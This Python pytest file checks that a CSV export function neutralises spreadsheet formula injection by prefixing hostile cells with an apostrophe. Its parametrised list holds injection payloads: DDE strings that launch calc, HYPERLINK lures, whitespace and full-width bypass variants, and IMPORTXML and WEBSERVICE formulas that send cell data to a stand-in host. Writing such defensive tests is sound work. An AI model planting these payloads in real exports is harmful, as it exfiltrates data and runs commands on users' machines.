"""Tables that people keep: what a stranger wrote never runs in them."""

import csv
import io

import pytest

from app.sheets import RUN, write_csv

HOSTILE = [
    "=1+1",
    '=HYPERLINK("https://evil.example.com","看这里")',
    "=cmd|' /C calc'!A0",
    "+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    '@=HYPERLINK("https://evil.example.com")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "　=1+1",
    "\u00a0=1+1",
    "\x00=1+1",
    "|calc",
    "%0A=1",
    "＝1＋1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '="a"&"b"',
    '=IMPORTXML(CONCAT("https://evil.example.com?x=",A1),"//a")',
    '=WEBSERVICE("https://evil.example.com")',
    '=DDE("cmd";"/C calc";"x")',
    "  \t @SUM(1)",
    "=\n1",
    "-",
    "=",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_no_cell_runs(value: str) -> None:
    [_head, [first, last]] = read(write_csv(["甲", "乙"], [[value, f"王{value}"]]))
    assert first.lstrip()[0] not in RUN
    assert first.startswith("'")
    assert last == f"王{value}".replace("\x00", "")


def test_numbers_and_words_stay_what_they_are() -> None:
    table = write_csv(["名称", "天数"], [["李晓雯", -3], ["王 = 李", None]])
    assert read(table) == [["名称", "天数"], ["李晓雯", "-3"], ["王 = 李", ""]]
    assert table.startswith(b"\xef\xbb\xbf")


def read(table: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(table.decode("utf-8-sig"), newline="")))
